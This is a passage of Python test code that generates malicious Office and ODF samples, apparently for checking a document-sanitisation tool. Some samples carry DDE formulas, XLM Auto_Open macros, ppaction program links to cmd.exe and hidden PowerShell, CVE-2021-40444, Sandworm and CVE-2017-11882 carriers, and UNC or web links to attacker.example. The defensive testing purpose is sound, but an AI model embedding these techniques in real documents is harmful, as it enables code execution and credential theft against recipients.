        "<formula>cmd|' /C calc'!A0</formula></cfRule></conditionalFormatting>"
    )
    return _xlsx(sheet_extra=rule).bytes()


@sample("xlsx_dde_data_validation", ".xlsx", "dde-formula", "§18.3.1.32 dataValidation formula1")
def xlsx_dde_data_validation(work: Path) -> bytes:
    rule = (
        '<dataValidations count="1"><dataValidation type="custom" sqref="A2">'
        "<formula1>cmd|' /C calc'!A0</formula1></dataValidation></dataValidations>"
    )
    return _xlsx(sheet_extra=rule).bytes()


@sample("xlsx_strict_dde", ".xlsx", "dde-formula", "ISO/IEC 29500 Strict namespaces (purl.oclc.org) with a DDE formula")
def xlsx_strict_dde(work: Path) -> bytes:
    package = base.Package(base.xlsx_bytes())
    for name in list(package.parts):
        if name.endswith((".xml", ".rels")):
            text = package.text(name)
            text = text.replace("http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                                "http://purl.oclc.org/ooxml/spreadsheetml/main")
            text = text.replace("http://schemas.openxmlformats.org/officeDocument/2006/relationships",
                                "http://purl.oclc.org/ooxml/officeDocument/relationships")
            package.put(name, text)
    package.put(SHEET, package.text(SHEET).replace("<f>SUM(B2:B3)</f><v></v>", "<f>cmd|' /C calc'!A0</f><v>0</v>"))
    return package.bytes()


@sample("xlsx_xlm_macro_sheet", ".xlsx", "xlm-macro", "[MS-XLSX] macrosheet part + Auto_Open name (Outflank 2018)")
def xlsx_xlm_macro_sheet(work: Path) -> bytes:
    return _macro_sheet("application/vnd.ms-excel.macrosheet+xml", MS_RT + "xlMacrosheet", "veryHidden")


@sample("xlsx_xlm_intl_macro_sheet", ".xlsx", "xlm-macro", "[MS-XLSX] international macrosheet (xlIntlMacrosheet)")
def xlsx_xlm_intl_macro_sheet(work: Path) -> bytes:
    return _macro_sheet("application/vnd.ms-excel.intlmacrosheet+xml", MS_RT + "xlIntlMacrosheet", "hidden")


def _macro_sheet(content_type: str, rel_type: str, state: str) -> bytes:
    package = base.Package(base.xlsx_bytes())
    package.put(
        "xl/macrosheets/sheet2.xml",
        '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">'
        '<c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData>'
        "</xm:macrosheet>",
    )
    package.content_type("/xl/macrosheets/sheet2.xml", content_type)
    package.add_rel("xl/_rels/workbook.xml.rels", "rIdMacro", rel_type, "macrosheets/sheet2.xml")
    workbook = package.text("xl/workbook.xml")
    workbook = workbook.replace(
        "</sheets>",
        f'<sheet xmlns:r="{RT[:-1]}" name="Macro1" sheetId="2" state="{state}" r:id="rIdMacro"/></sheets>',
    )
    workbook = workbook.replace(
        "<definedNames/>",
        '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>',
    )
    package.put("xl/workbook.xml", workbook)
    return package.bytes()


@sample("xlsx_auto_open_name_exec", ".xlsx", "xlm-macro", "Auto_Open defined name running EXEC directly")
def xlsx_auto_open_name_exec(work: Path) -> bytes:
    names = '<definedNames><definedName name="Auto_Open">EXEC("calc.exe")</definedName></definedNames>'
    return _xlsx(workbook_extra=names).bytes()


def _external_link(body: str, target: str) -> bytes:
    package = base.Package(base.xlsx_bytes())
    package.put(
        "xl/externalLinks/externalLink1.xml",
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'xmlns:r="{RT[:-1]}">{body}</externalLink>',
    )
    package.content_type("/xl/externalLinks/externalLink1.xml",
                         "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
    package.add_rel("xl/_rels/workbook.xml.rels", "rIdExt", RT + "externalLink", "externalLinks/externalLink1.xml")
    if target:
        package.add_rel("xl/externalLinks/_rels/externalLink1.xml.rels", "rId1", RT + "externalLinkPath", target, True)
    workbook = package.text("xl/workbook.xml").replace(
        "<definedNames/>", f'<externalReferences><externalReference xmlns:r="{RT[:-1]}" r:id="rIdExt"/></externalReferences>'
    )
    package.put("xl/workbook.xml", workbook)
    package.put(SHEET, package.text(SHEET).replace("<f>SUM(B2:B3)</f><v></v>", "<f>[1]Sheet1!A1</f><v>0</v>"))
    return package.bytes()


@sample("xlsx_external_workbook_link", ".xlsx", "external-workbook", "§18.14 externalLink part to a UNC workbook")
def xlsx_external_workbook_link(work: Path) -> bytes:
    return _external_link(
        '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>',
        "file:///\\\\attacker.example\\share\\book.xlsx",
    )


@sample("xlsx_dde_link_part", ".xlsx", "dde-formula", "§18.14.4 ddeLink: DDE stored as an external link (cmd /c calc)")
def xlsx_dde_link_part(work: Path) -> bytes:
    return _external_link(
        '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>', ""
    )


@sample("xlsx_web_query_connection", ".xlsx", "external-relationship", "§18.13 connections.xml web query + queryTable")
def xlsx_web_query_connection(work: Path) -> bytes:
    package = base.Package(base.xlsx_bytes())
    package.put(
        "xl/connections.xml",
        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://attacker.example/data.iqy"/>'
        "</connection></connections>",
    )
    package.content_type("/xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")
    package.add_rel("xl/_rels/workbook.xml.rels", "rIdConn", RT + "connections", "connections.xml")
    return package.bytes()


@sample("xlsm_vba", ".xlsm", "macros", "Excel-written macro workbook (xlwings quickstart.xlsm, real VBA)")
def xlsm_vba(work: Path) -> bytes:
    return base.xlwings_file("quickstart.xlsm")


@sample("xlsx_oleobject_mhtml", ".xlsx", "external-relationship", "CVE-2021-40444 delivered through a worksheet oleObject")
def xlsx_oleobject_mhtml(work: Path) -> bytes:
    package = _xlsx(sheet_extra=f'<oleObjects><oleObject xmlns:r="{RT[:-1]}" progId="htmlfile" shapeId="1025" r:id="rIdOle"/></oleObjects>')
    package.add_rel("xl/worksheets/_rels/sheet1.xml.rels", "rIdOle", RT + "oleObject", html.escape(MHTML), True)
    return package.bytes()


@sample("xlsx_customui_onload", ".xlsx", "customui", "[MS-CUSTOMUI] onLoad callback in a workbook")
def xlsx_customui_onload(work: Path) -> bytes:
    return _with_customui(base.Package(base.xlsx_bytes()))


# ---------------------------------------------------------------- PowerPoint
def _pptx_action(action: str, target: str | None, element: str = "hlinkClick") -> bytes:
    package = base.Package(base.pptx_bytes())
    rid = ""
    if target is not None:
        package.add_rel(SLIDE_RELS, "rIdAct", RT + "hyperlink", html.escape(target), True)
        rid = ' r:id="rIdAct"'
    slide = package.text(SLIDE).replace(
        'name="Title 1"/>', f'name="Title 1"><a:{element}{rid} action="{html.escape(action)}"/></p:cNvPr>', 1
    )
    package.put(SLIDE, slide)
    return package.bytes()


@sample("pptx_benign", ".pptx", "control", "python-pptx presentation", Expect.RELEASED)
def pptx_benign(work: Path) -> bytes:
    return base.pptx_bytes()


@sample("pptx_ppaction_program", ".pptx", "ppaction", "§21.1.2.3.5 hlinkClick action ppaction://program (mouse-click run)")
def pptx_ppaction_program(work: Path) -> bytes:
    return _pptx_action("ppaction://program", "file:///C:/Windows/System32/cmd.exe")


@sample("pptx_ppaction_program_hover", ".pptx", "ppaction", "§21.1.2.3.6 hlinkHover: runs on mouse-over (PowerPoint mouseover malware, 2017)")
def pptx_ppaction_program_hover(work: Path) -> bytes:
    return _pptx_action("ppaction://program", "powershell.exe -nop -w hidden -c calc", "hlinkHover")


@sample("pptx_ppaction_macro", ".pptx", "ppaction", "[MS-PPTX] ppaction://macro?name= runs a VBA macro")
def pptx_ppaction_macro(work: Path) -> bytes:
    return _pptx_action("ppaction://macro?name=AutoOpen", None)


@sample("pptx_ppaction_ole", ".pptx", "ppaction", "[MS-PPTX] ppaction://ole?verb=0 activates an OLE object")
def pptx_ppaction_ole(work: Path) -> bytes:
    return _pptx_action("ppaction://ole?verb=0", None)


@sample("pptx_hlinkfile_unc", ".pptx", "ppaction", "ppaction://hlinkfile to a UNC executable")
def pptx_hlinkfile_unc(work: Path) -> bytes:
    return _pptx_action("ppaction://hlinkfile", "\\\\attacker.example\\share\\x.exe")


@sample("pptx_hyperlink_javascript", ".pptx", "external-relationship", "hyperlink relationship with a javascript: target")
def pptx_hyperlink_javascript(work: Path) -> bytes:
    return _pptx_action("", "javascript:alert(1)")


@sample("pptx_external_video", ".pptx", "external-relationship", "§20.1.3.6 videoFile r:link to a remote file")
def pptx_external_video(work: Path) -> bytes:
    package = base.Package(base.pptx_bytes())
    package.add_rel(SLIDE_RELS, "rIdVid", RT + "video", "\\\\attacker.example\\share\\v.mp4", True)
    slide = package.text(SLIDE).replace(
        '<p:nvPr><p:ph type="title"/></p:nvPr>', '<p:nvPr><p:ph type="title"/><a:videoFile r:link="rIdVid"/></p:nvPr>', 1
    )
    package.put(SLIDE, slide)
    return package.bytes()


@sample("pptx_oleobject_mhtml", ".pptx", "external-relationship", "CVE-2021-40444 style oleObject in a slide")
def pptx_oleobject_mhtml(work: Path) -> bytes:
    package = base.Package(base.pptx_bytes())
    package.add_rel(SLIDE_RELS, "rIdOle", RT + "oleObject", html.escape(MHTML), True)
    frame = (
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="9" name="Object"/><p:cNvGraphicFramePr/><p:nvPr/>'
        '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></p:xfrm><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
        '<p:oleObj r:id="rIdOle" progId="htmlfile"><p:link updateAutomatic="1"/></p:oleObj>'
        "</a:graphicData></a:graphic></p:graphicFrame>"
    )
    package.put(SLIDE, package.text(SLIDE).replace("</p:spTree>", frame + "</p:spTree>", 1))
    return package.bytes()


@sample("pptm_vba", ".pptm", "macros", "[MS-OFFMACRO] vbaProject in a macro-enabled presentation")
def pptm_vba(work: Path) -> bytes:
    return _vba_everywhere(
        base.Package(base.pptx_bytes()), "ppt", "ppt/_rels/presentation.xml.rels",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    )


@sample("pptx_customui_onload", ".pptx", "customui", "[MS-CUSTOMUI] onLoad in a presentation")
def pptx_customui_onload(work: Path) -> bytes:
    return _with_customui(base.Package(base.pptx_bytes()))


@sample("doc_benign_via_libreoffice", ".doc", "control", "Word 97 binary memo (LibreOffice-written): must convert and release",
        Expect.RELEASED)
def doc_benign_via_libreoffice(work: Path) -> bytes:
    source = work / "memo_source.rtf"
    source.write_bytes(b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard Meeting memo: room 2.\\par}")
    return base.libreoffice(work, source, "doc:MS Word 97").read_bytes()


# ---------------------------------------------------------------- second round: where fields and links hide
@sample("docx_field_spans_paragraphs", ".docx", "dde-field", "§17.16.18: a complex field may begin in one paragraph and end in another")
def docx_field_spans_paragraphs(work: Path) -> bytes:
    package = _docx()
    package.body_append(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">DDE</w:instrText></w:r></w:p>'
        f'<w:p><w:r><w:instrText xml:space="preserve">AUTO {html.escape(CALC)} "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + _run("x") + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return package.bytes()


@sample("docx_field_in_tracked_insertion", ".docx", "dde-field", "§17.13.5.18 w:ins: runs of a tracked insertion are live text")
def docx_field_in_tracked_insertion(work: Path) -> bytes:
    return _word_with(f'<w:ins w:id="1" w:author="a" w:date="2026-01-01T00:00:00Z">{_complex_field([DDEAUTO])}</w:ins>')


@sample("docx_field_in_content_control", ".docx", "dde-field", "§17.5.2 sdt content control wrapping a DDE field")
def docx_field_in_content_control(work: Path) -> bytes:
    return _word_with(f'<w:sdt><w:sdtPr><w:id w:val="7"/></w:sdtPr><w:sdtContent>{_simple_field(DDEAUTO)}</w:sdtContent></w:sdt>')


@sample("docx_field_in_alternate_content", ".docx", "dde-field", "ECMA-376 Part 3 §10.2 mc:AlternateContent Choice/Fallback")
def docx_field_in_alternate_content(work: Path) -> bytes:
    field = _complex_field([DDEAUTO])
    return _word_with(
        f'<mc:AlternateContent><mc:Choice Requires="w14">{field}</mc:Choice><mc:Fallback>{field}</mc:Fallback></mc:AlternateContent>'
    )


@sample("docx_field_in_footnote", ".docx", "dde-field", "§17.11 footnotes part with an INCLUDETEXT field")
def docx_field_in_footnote(work: Path) -> bytes:
    package = _docx()
    include = _simple_field('INCLUDETEXT "\\\\\\\\attacker.example\\\\s\\\\x.docx"')
    notes = f'<w:footnotes xmlns:w="{W_NS}"><w:footnote w:id="1"><w:p>{include}</w:p></w:footnote></w:footnotes>'
    _add_part(package, "word/footnotes.xml", notes, "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml",
              DOCUMENT_RELS, "rIdFn", RT + "footnotes")
    package.body_append('<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>')
    return package.bytes()


@sample("docx_hyperlink_rel_protocol_relative", ".docx", "external-relationship", "RFC 3986 §4.2 network-path reference: '//host/share' is UNC on Windows")
def docx_hyperlink_rel_protocol_relative(work: Path) -> bytes:
    return _word_rel_element(RT + "hyperlink", "//attacker.example/share/invoice.exe",
                             '<w:p><w:hyperlink r:id="rIdAtk">' + _run("請求書") + "</w:hyperlink></w:p>")


@sample("docx_hyperlink_rel_tab_in_scheme", ".docx", "external-relationship", "WHATWG URL §4.4: tab and newline are removed from URLs")
def docx_hyperlink_rel_tab_in_scheme(work: Path) -> bytes:
    return _word_rel_element(RT + "hyperlink", " fi&#9;le:///C:/Windows/System32/calc.exe",
                             '<w:p><w:hyperlink r:id="rIdAtk">' + _run("開く") + "</w:hyperlink></w:p>")


@sample("docx_vml_imagedata_unc", ".docx", "external-relationship", "VML v:imagedata src / o:href to a UNC path (NTLM leak)")
def docx_vml_imagedata_unc(work: Path) -> bytes:
    return _word_with(
        '<w:r><w:pict><v:shape id="s1" style="width:10pt;height:10pt">'
        '<v:imagedata src="\\\\attacker.example\\share\\p.png" o:href="file://attacker.example/share/q.png"/>'
        "</v:shape></w:pict></w:r>"
    )


@sample("xlsx_table_calculated_column_dde", ".xlsx", "dde-formula", "§18.5.1.1 table calculatedColumnFormula with DDE")
def xlsx_table_calculated_column_dde(work: Path) -> bytes:
    package = _xlsx(sheet_extra=f'<tableParts count="1"><tablePart xmlns:r="{RT[:-1]}" r:id="rIdTbl"/></tableParts>')
    table = (
        '<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="T1" displayName="T1" '
        'ref="A1:B3"><tableColumns count="2"><tableColumn id="1" name="品目"/><tableColumn id="2" name="金額">'
        "<calculatedColumnFormula>cmd|' /C calc'!A0</calculatedColumnFormula></tableColumn></tableColumns></table>"
    )
    _add_part(package, "xl/tables/table1.xml", table, "application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml",
              "xl/worksheets/_rels/sheet1.xml.rels", "rIdTbl", RT + "table")
    return package.bytes()


@sample("xlsx_hyperlink_rel_file", ".xlsx", "external-relationship", "§18.3.1.47 sheet hyperlink to file:")
def xlsx_hyperlink_rel_file(work: Path) -> bytes:
    package = _xlsx(sheet_extra=f'<hyperlinks><hyperlink xmlns:r="{RT[:-1]}" ref="A2" r:id="rIdLink"/></hyperlinks>')
    package.add_rel("xl/worksheets/_rels/sheet1.xml.rels", "rIdLink", RT + "hyperlink", "file:///C:/Windows/System32/calc.exe", True)
    return package.bytes()


@sample("xlsx_chart_external_data", ".xlsx", "external-workbook", "§21.2.2.63 chart externalData + c:f into another workbook")
def xlsx_chart_external_data(work: Path) -> bytes:
    import io

    import openpyxl
    from openpyxl.chart import BarChart, Reference

    book = openpyxl.Workbook()
    sheet = book.active
    for row in (("a", 1), ("b", 2)):
        sheet.append(row)
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=2))
    sheet.add_chart(chart, "D2")
    buffer = io.BytesIO()
    book.save(buffer)
    package = base.Package(buffer.getvalue())
    name = next(n for n in package.parts if n.startswith("xl/charts/chart") and n.endswith(".xml"))
    text = re.sub(r"<c:f>[^<]*</c:f>", "<c:f>[1]Sheet1!$B$1:$B$2</c:f>", package.text(name))
    text = text.replace("</c:chartSpace>", f'<c:externalData xmlns:r="{RT[:-1]}" r:id="rIdExt"/></c:chartSpace>')
    package.put(name, text)
    rels = name.replace("charts/", "charts/_rels/") + ".rels"
    package.add_rel(rels, "rIdExt", RT + "package", "\\\\attacker.example\\share\\book.xlsx", True)
    return package.bytes()


@sample("xlsx_power_query_mashup", ".xlsx", "external-relationship", "Power Query DataMashup in customXml + refresh-on-open connection (Mimecast 2019)")
def xlsx_power_query_mashup(work: Path) -> bytes:
    package = base.Package(xlsx_web_query_connection(work))
    package.put("customXml/item9.xml", '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">UEsDBBQAAgAIAA==</DataMashup>')
    package.add_rel("xl/_rels/workbook.xml.rels", "rIdMash", RT + "customXml", "../customXml/item9.xml")
    return package.bytes()


@sample("pptx_run_level_ppaction", ".pptx", "ppaction", "§21.1.2.3.5 hlinkClick inside a text run's a:rPr")
def pptx_run_level_ppaction(work: Path) -> bytes:
    package = base.Package(base.pptx_bytes())
    package.add_rel(SLIDE_RELS, "rIdRun", RT + "hyperlink", "file:///C:/Windows/System32/cmd.exe", True)
    slide = package.text(SLIDE).replace(
        "<a:r><a:t>熊出没注意</a:t></a:r>",
        '<a:r><a:rPr lang="ja-JP"><a:hlinkClick r:id="rIdRun" action="ppaction://program"/></a:rPr><a:t>熊出没注意</a:t></a:r>', 1,
    )
    package.put(SLIDE, slide)
    return package.bytes()


@sample("pptx_ppaction_uppercase", ".pptx", "ppaction", "RFC 3986 §3.1: the scheme 'PPACTION' is case-insensitive")
def pptx_ppaction_uppercase(work: Path) -> bytes:
    return _pptx_action("PPACTION://PROGRAM", "file:///C:/Windows/System32/calc.exe")


# ---------------------------------------------------------------- third round
MAILTO_ATTACH = "mailto:soumu@town.example.lg.jp?subject=report&attach=C:\\Users\\Public\\Documents\\secret.xlsx"


@sample("docx_mailto_attach", ".docx", "external-relationship", "'Mailto: Me Your Secrets' (NDSS 2021): mailto ?attach= a local file")
def docx_mailto_attach(work: Path) -> bytes:
    return _word_rel_element(RT + "hyperlink", html.escape(MAILTO_ATTACH),
                             '<w:p><w:hyperlink r:id="rIdAtk">' + _run("担当へメール") + "</w:hyperlink></w:p>")


@sample("docx_object_link_new_syntax", ".docx", "external-relationship", "§17.3.3.20 w:objectLink (2nd-edition OLE syntax) updating always")
def docx_object_link_new_syntax(work: Path) -> bytes:
    return _word_rel_element(
        RT + "oleObject", html.escape(MHTML),
        '<w:p><w:r><w:object><w:objectLink r:id="rIdAtk" w:progId="htmlfile" w:shapeId="_x0000_i1030" '
        'w:updateMode="always"/></w:object></w:r></w:p>',
    )


@sample("docx_save_through_xslt", ".docx", "external-relationship", "§17.15.1.76 saveThroughXslt naming a remote transform")
def docx_save_through_xslt(work: Path) -> bytes:
    package = _docx()
    package.add_rel(SETTINGS_RELS, "rIdXsl", RT + "transform", "http://attacker.example/t.xsl", True)
    settings = package.text("word/settings.xml")
    if 'xmlns:r="' not in settings.split(">", 2)[1]:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{RT[:-1]}" ', 1)
    package.put("word/settings.xml", re.sub(r"(<w:settings[^>]*>)", r'\1<w:saveThroughXslt r:id="rIdXsl"/>', settings, count=1))
    return package.bytes()


@sample("docx_duplicate_relationship_ids", ".docx", "remote-template", "OPC §9.3: two relationships with one Id (parser differential)")
def docx_duplicate_relationship_ids(work: Path) -> bytes:
    package = _docx()
    package.add_rel(SETTINGS_RELS, "rIdTpl", RT + "hyperlink", "https://www.city.example.lg.jp/", True)
    package.add_rel(SETTINGS_RELS, "rIdTpl", RT + "attachedTemplate", "http://attacker.example/t.dotm", True)
    settings = package.text("word/settings.xml")
    if 'xmlns:r="' not in settings.split(">", 2)[1]:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{RT[:-1]}" ', 1)
    package.put("word/settings.xml", re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings, count=1))
    return package.bytes()


def _sandworm(suffix_main: str | None) -> bytes:
    """An embedded Packager object plus a slide timing node that fires its verb when the show starts."""
    package = base.Package(base.pptx_bytes())
    _add_part(package, "ppt/embeddings/oleObject1.bin", _packager_ole1(),
              "application/vnd.openxmlformats-officedocument.oleObject", SLIDE_RELS, "rIdOle", RT + "oleObject")
    frame = (
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="9" name="Object 8"/><p:cNvGraphicFramePr/><p:nvPr/>'
        '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></p:xfrm><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
        '<p:oleObj r:id="rIdOle" progId="Package" name="slide"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>'
    )
    timing = (
        '<p:timing><p:tnLst><p:par><p:cTn id="1" dur="indefinite" restart="never" nodeType="tmRoot"><p:childTnLst>'
        '<p:cmd type="verb" cmd="3"><p:cBhvr><p:cTn id="2" dur="1000"/><p:tgtEl><p:spTgt spid="9"/></p:tgtEl></p:cBhvr>'
        "</p:cmd></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>"
    )
    slide = package.text(SLIDE).replace("</p:spTree>", frame + "</p:spTree>", 1)
    package.put(SLIDE, slide.replace("</p:clrMapOvr>", "</p:clrMapOvr>" + timing, 1))
    if suffix_main:
        package.main_type("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", suffix_main)
    return package.bytes()


@sample("pptx_sandworm_ole_verb", ".pptx", "ole-embedding", "CVE-2014-4114 (Sandworm): Packager OLE + p:cmd type=verb on show start")
def pptx_sandworm_ole_verb(work: Path) -> bytes:
    return _sandworm(None)


@sample("ppsx_sandworm_ole_verb", ".ppsx", "ole-embedding", "CVE-2014-4114 as .ppsx: opens straight into the slide show")
def ppsx_sandworm_ole_verb(work: Path) -> bytes:
    return _sandworm("application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml")


# ---------------------------------------------------------------- fourth round: conversions and package structure
def _odf(mimetype: str, content: str, extra: dict[str, str]) -> bytes:
    """An ODF package (ODF 1.2 part 3): mimetype first and stored, then the manifest and parts."""
    import zipfile
    from io import BytesIO

    files = {"META-INF/manifest.xml": (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        + "".join(f'<manifest:file-entry manifest:full-path="{n}" manifest:media-type="text/xml"/>' for n in extra)
        + "</manifest:manifest>"
    ), "content.xml": content, **extra}
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(zipfile.ZipInfo("mimetype"), mimetype)
        for name, text in files.items():
            package.writestr(name, text)
    return out.getvalue()


ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" '
    'office:version="1.2"'
)


@sample("odt_basic_macro_on_load", ".odt", "macros", "ODF 1.2 §10.3 office:event-listeners (dom:load) calling a Basic macro")
def odt_basic_macro_on_load(work: Path) -> bytes:
    content = (
        f'<office:document-content {ODF_NS}><office:scripts><office:event-listeners>'
        '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
        "</office:event-listeners></office:scripts><office:body><office:text><text:p>会議資料</text:p>"
        '<text:p><text:a xlink:href="file:///C:/Windows/System32/calc.exe">開く</text:a></text:p>'
        "</office:text></office:body></office:document-content>"
    )
    basic = (
        '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">'
        'Sub Main\n Shell("cmd.exe /c calc")\nEnd Sub</script:module>'
    )
    return _odf("application/vnd.oasis.opendocument.text", content, {"Basic/Standard/Module1.xml": basic})


@sample("ods_dde_function", ".ods", "dde-formula", "OpenFormula DDE() (ODF 1.2 part 2 §6.10) converted to Excel")
def ods_dde_function(work: Path) -> bytes:
    content = (
        f"<office:document-content {ODF_NS}><office:body><office:spreadsheet><table:table table:name=\"S\">"
        "<table:table-row><table:table-cell office:value-type=\"string\"><text:p>品目</text:p></table:table-cell>"
        '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)" '
        'office:value-type="float" office:value="0"><text:p>0</text:p></table:table-cell>'
        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://attacker.example/&quot;)" '
        'office:value-type="string" office:string-value=""><text:p/></table:table-cell>'
        "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    return _odf("application/vnd.oasis.opendocument.spreadsheet", content, {})


@sample("rtf_objdata_equation", ".rtf", "ole-embedding", "CVE-2017-11882 carrier: RTF \\\\objupdate Equation.3 object with \\\\objdata")
def rtf_objdata_equation(work: Path) -> bytes:
    ole = b"\x01\x05\x00\x00\x02\x00\x00\x00\x0b\x00\x00\x00Equation.3\x00" + b"\x00" * 8 + b"\xd0\xcf\x11\xe0" + b"A" * 200
    return (
        b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard Quotation \\par"
        b"{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}\\objw380\\objh260{\\*\\objdata " + ole.hex().encode()
        + b"}{\\result {\\pict\\wmetafile8 0100}}}\\par}"
    )


@sample("docx_two_main_parts", ".docx", "dde-field", "OPC: a second officeDocument relationship to a part holding DDEAUTO")
def docx_two_main_parts(work: Path) -> bytes:
    package = _docx()
    second = (f'<w:document xmlns:w="{W_NS}"><w:body><w:p>{_simple_field(DDEAUTO)}</w:p></w:body></w:document>')
    package.put("word/document2.xml", second)
    package.content_type("/word/document2.xml", base.DOCX_MAIN)
    package.add_rel("_rels/.rels", "rIdMain2", RT + "officeDocument", "word/document2.xml")
    return package.bytes()


# ---------------------------------------------------------------- fifth round: content the rebuild keeps on purpose
@sample("docx_field_in_comment", ".docx", "dde-field", "§17.13.4 comments part (kept by policy) holding a DDEAUTO field")
def docx_field_in_comment(work: Path) -> bytes:
    package = _docx()
    comments = (f'<w:comments xmlns:w="{W_NS}"><w:comment w:id="0" w:author="a"><w:p>{_simple_field(DDEAUTO)}'
                "</w:p></w:comment></w:comments>")
    _add_part(package, "word/comments.xml", comments,
              "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml",
              DOCUMENT_RELS, "rIdCm", RT + "comments")
    package.body_append('<w:p><w:commentRangeStart w:id="0"/>' + _run("本文") + '<w:commentRangeEnd w:id="0"/>'
                        '<w:r><w:commentReference w:id="0"/></w:r></w:p>')
    return package.bytes()


@sample("docx_field_in_tracked_deletion", ".docx", "dde-field",
        "§17.13.5.13 w:del + delInstrText: rejecting the deletion (tracked changes are kept) revives the field")
def docx_field_in_tracked_deletion(work: Path) -> bytes:
    deleted = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:delInstrText xml:space="preserve">{html.escape(DDEAUTO)}</w:delInstrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:delText>x</w:delText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return _word_with(f'<w:del w:id="2" w:author="a" w:date="2026-01-01T00:00:00Z">{deleted}</w:del>')


@sample("docx_field_in_vml_textbox", ".docx", "dde-field", "VML v:textbox/w:txbxContent: a second story inside a shape")
def docx_field_in_vml_textbox(work: Path) -> bytes:
    return _word_with(
        '<w:r><w:pict><v:shape id="tb" style="width:100pt;height:20pt"><v:textbox><w:txbxContent>'
        f"<w:p>{_simple_field(DDEAUTO)}</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
    )


def _pptx_part_action(part: str, rels: str) -> bytes:
    package = base.Package(base.pptx_bytes())
    package.add_rel(rels, "rIdAct", RT + "hyperlink", "file:///C:/Windows/System32/cmd.exe", True)
    text = package.text(part)
    package.put(part, re.sub(r'(<p:cNvPr id="\d+" name="[^"]*")/>',
                             r'\1><a:hlinkHover r:id="rIdAct" action="ppaction://program"/></p:cNvPr>', text, count=1))
    return package.bytes()


@sample("pptx_layout_ppaction", ".pptx", "ppaction", "§19.3.1.39 slide layout shapes act on every slide that uses the layout")
def pptx_layout_ppaction(work: Path) -> bytes:
    return _pptx_part_action("ppt/slideLayouts/slideLayout2.xml", "ppt/slideLayouts/_rels/slideLayout2.xml.rels")


@sample("pptx_master_ppaction", ".pptx", "ppaction", "§19.3.1.42 slide master shape with a mouse-over program action")
def pptx_master_ppaction(work: Path) -> bytes:
